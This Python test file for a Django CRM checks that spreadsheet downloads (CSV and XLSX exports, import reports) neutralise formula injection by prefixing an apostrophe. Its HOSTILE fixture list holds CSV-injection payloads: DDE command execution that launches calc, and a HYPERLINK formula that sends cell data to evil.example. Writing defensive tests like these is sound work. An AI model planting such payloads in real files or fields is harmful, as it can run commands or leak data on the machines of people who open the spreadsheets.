"""Every download a spreadsheet may open neutralises a text cell that Excel would run as a formula: a
leading ``=``, ``+``, ``-``, ``@``, tab or carriage return gets an apostrophe (issue 19, item 3). One writer
(``core.csv``) serves the uncontacted list, the list exports, an import's row report and the meeting pack
(tested in ``tests/reports/test_pages.py``)."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from tests.factories import ActivityFactory, ContactFactory, CustomerFactory, DealFactory, UserFactory
from totonou.imports.models import Import, ImportRow
from totonou.users.models import User

pytestmark = pytest.mark.django_db

#: What an attacker types as a name: every formula start the issue lists, with the payloads it found.
HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"Open")',
    "+81 3 1234",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
NEUTRALISED = ["'" + value for value in HOSTILE]


def download(user: User, path: str) -> bytes:
    client = Client(headers={"Accept-Language": "en"})
    client.force_login(user)
    response = client.get(path)
    assert response.status_code == 200, path
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def xlsx_rows(data: bytes) -> list[list[object]]:
    """The sheet's values; XML reads a stored carriage return as a line feed, so it is turned back."""
    sheet = load_workbook(io.BytesIO(data), read_only=True).worksheets[0]
    return [
        [cell.replace("\n", "\r") if isinstance(cell, str) else cell for cell in row]
        for row in sheet.iter_rows(values_only=True)
    ]


def text_cells(rows: list[list[object]]) -> set[str]:
    return {cell for row in rows[1:] for cell in row if isinstance(cell, str)}


def assert_neutralised(rows: list[list[object]], expected: list[str]) -> None:
    cells = text_cells(rows)
    missing = [value for value in expected if value not in cells]
    assert not missing, missing
    assert not {value for value in HOSTILE if value in cells}, "a formula went out verbatim"
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]


@pytest.fixture
def hostile_owner() -> User:
    """A rep whose display name (the uncontacted list's owner column) is a formula."""
    return UserFactory(username="hostile", display_name='=HYPERLINK("https://evil.example")')


def test_uncontacted_csv_neutralises_customer_and_owner_names(api_client, hostile_owner):
    for name in HOSTILE:
        CustomerFactory(name=name, name_kana=name, owner=hostile_owner)
    response = api_client(hostile_owner).get("/api/v1/insights/uncontacted.csv")
    assert response.status_code == 200
    rows = csv_rows(b"".join(response.streaming_content))
    assert rows[0][1:5] == ["Customer", "Name (kana)", "Segment", "Owner"]
    assert sorted(row[1] for row in rows[1:]) == sorted(NEUTRALISED)
    assert sorted(row[2] for row in rows[1:]) == sorted(NEUTRALISED)
    assert {row[4] for row in rows[1:]} == {'\'=HYPERLINK("https://evil.example")'}
    assert_neutralised(rows, NEUTRALISED)


def test_the_uncontacted_page_links_the_neutralising_csv(hostile_owner):
    CustomerFactory(name=HOSTILE[0], owner=hostile_owner)
    client = Client()
    client.force_login(hostile_owner)
    html = client.get("/insights/uncontacted/").content.decode()
    assert 'href="/api/v1/insights/uncontacted.csv' in html
    rows = csv_rows(download(hostile_owner, "/api/v1/insights/uncontacted.csv"))
    assert rows[1][1] == NEUTRALISED[0]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_list_exports_neutralise_every_text_column(hostile_owner, fmt):
    for index, name in enumerate(HOSTILE):
        customer = CustomerFactory(name=name, owner=hostile_owner, notes=name, external_id=f"C{index}")
        ContactFactory(customer=customer, name=name, title=name)
        DealFactory(customer=customer, owner=hostile_owner, title=name, next_step=name)
        ActivityFactory(customer=customer, owner=hostile_owner, subject=name, notes=name)
    read = csv_rows if fmt == "csv" else xlsx_rows
    for kind, column in (("customers", 1), ("contacts", 1), ("deals", 1), ("activities", None)):
        rows = read(download(hostile_owner, f"/exports/{kind}.{fmt}"))
        assert len(rows) == 1 + len(HOSTILE), kind
        if column is not None:
            assert sorted(row[column] for row in rows[1:]) == sorted(NEUTRALISED), kind
        assert_neutralised(rows, NEUTRALISED)


def test_an_import_report_neutralises_the_rows_it_echoes(hostile_owner):
    record = Import.objects.create(
        kind=Import.Kind.CUSTOMERS,
        created_by=hostile_owner,
        filename="x.csv",
        status=Import.Status.DONE,
    )
    ImportRow.objects.bulk_create(
        ImportRow(record=record, line=index + 2, status="failed", key=name, message=name)
        for index, name in enumerate(HOSTILE)
    )
    rows = csv_rows(download(hostile_owner, f"/imports/{record.pk}/report.csv"))
    assert rows[0] == ["Line", "Result", "Record", "Reason"]
    assert [row[2] for row in rows[1:]] == NEUTRALISED
    assert [row[3] for row in rows[1:]] == NEUTRALISED
    assert_neutralised(rows, NEUTRALISED)
